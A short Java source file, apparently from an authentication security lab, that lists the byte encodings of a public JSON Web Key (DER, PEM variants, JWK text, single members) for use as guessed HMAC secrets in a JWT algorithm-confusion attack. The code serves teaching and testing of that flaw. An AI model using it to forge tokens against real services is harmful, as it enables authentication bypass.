package authlab.lab.attack;

import static java.nio.charset.StandardCharsets.UTF_8;

import com.fasterxml.jackson.databind.JsonNode;
import io.jsonwebtoken.security.Jwks;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;

/** The bytes of a published key that a confused verifier could take for an HMAC secret. */
final class PublicKeyAsSecret {

    private PublicKeyAsSecret() {}

    /** DER, PEM, JWK and single members. */
    static List<byte[]> encodings(JsonNode jwk) {
        List<byte[]> secrets = new ArrayList<>();
        for (String member : List.of("n", "x", "y", "e")) {
            if (jwk.has(member)) {
                secrets.add(Base64.getUrlDecoder().decode(jwk.path(member).asText()));
                secrets.add(jwk.path(member).asText().getBytes(UTF_8));
            }
        }
        secrets.add(jwk.toString().getBytes(UTF_8));
        byte[] der = Jwks.parser().build().parse(jwk.toString()).toKey().getEncoded();
        secrets.add(der);
        for (String end : List.of("\n", "\r\n")) {
            String pem = "-----BEGIN PUBLIC KEY-----" + end
                    + Base64.getMimeEncoder(64, end.getBytes(UTF_8)).encodeToString(der) + end
                    + "-----END PUBLIC KEY-----";
            secrets.add(pem.getBytes(UTF_8));
            secrets.add((pem + end).getBytes(UTF_8));
        }
        secrets.add(Base64.getEncoder().encodeToString(der).getBytes(UTF_8));
        return secrets;
    }
}
